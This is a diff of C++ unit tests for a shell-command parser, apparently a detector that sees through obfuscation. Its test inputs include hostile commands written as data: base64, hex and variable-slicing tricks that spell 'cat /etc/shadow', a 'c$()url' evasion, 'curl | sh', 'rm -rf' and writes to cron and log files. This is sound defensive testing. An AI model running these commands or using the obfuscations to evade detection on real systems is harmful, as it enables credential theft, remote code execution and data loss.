@@ -41,6 +41,35 @@ TEST(ShellParser, LeadingExpansionIsSplit) {
   EXPECT_EQ(rendered("c=\"curl -s http://x\"; $c | sh"), (std::vector<std::string>{"c=curl -s http://x", "curl -s http://x", "sh"}));
 }
 
+// Static command substitutions: the word keeps its spelling and also carries what the
+// substitution outputs; a substitution that depends on anything else has no such reading.
+TEST(ShellParser, StaticSubstitutionsCarryTheirOutput) {
+  VarMap vars;
+  const auto p = parse_shell("cat $(echo L2V0Yy9zaGFkb3c= | base64 -d) x$(echo 2f6574 | xxd -r -p)y `echo ab | rev` $(id -u)", vars);
+  ASSERT_EQ(p.commands.size(), 1u);
+  const auto& w = p.commands[0].words;
+  ASSERT_EQ(w.size(), 5u);
+  EXPECT_TRUE(w[1].has_alt);
+  EXPECT_EQ(w[1].alt, "/etc/shadow");
+  EXPECT_EQ(w[2].alt, "x/ety");
+  EXPECT_EQ(w[3].alt, "ba");
+  EXPECT_FALSE(w[4].has_alt);
+  EXPECT_EQ(w[1].text, "$(echo L2V0Yy9zaGFkb3c= | base64 -d)");
+  // An assignment from one binds the output; `$()` is empty.
+  VarMap v2;
+  EXPECT_EQ(effective_command(parse_shell("f=$(printf %s /etc/shadow); cat $f", v2).commands[1]).rendered, "cat /etc/shadow");
+  VarMap v3;
+  EXPECT_EQ(parse_shell("c$()url x", v3).commands[0].words[0].alt, "curl");
+}
+
+// Variables the script never sets, wedged between letters, and one-character slices of HOME.
+TEST(ShellParser, EmptyAndSlicedVariablesReadAsTheShellExpandsThem) {
+  EXPECT_EQ(rendered("cat /etc/sh${u}adow"), (std::vector<std::string>{"cat /etc/shadow"}));
+  EXPECT_EQ(rendered("cat ${HOME:0:1}etc${HOME:0:1}shadow"), (std::vector<std::string>{"cat /etc/shadow"}));
+  EXPECT_EQ(rendered("x=abcdef; echo ${x:1:3}"), (std::vector<std::string>{"x=abcdef", "echo bcd"}));
+  EXPECT_EQ(rendered("rm -rf $D/"), (std::vector<std::string>{"rm -rf $D/"}));  // not between letters
+}
+
 TEST(ShellParser, RedirectionsAreRendered) {
   EXPECT_EQ(rendered("echo x >> /etc/cron.d/job 2>/dev/null"), (std::vector<std::string>{"echo x >>/etc/cron.d/job 2>/dev/null"}));
   EXPECT_EQ(rendered("echo 0> /var/log/secure"), (std::vector<std::string>{"echo 0>/var/log/secure"}));
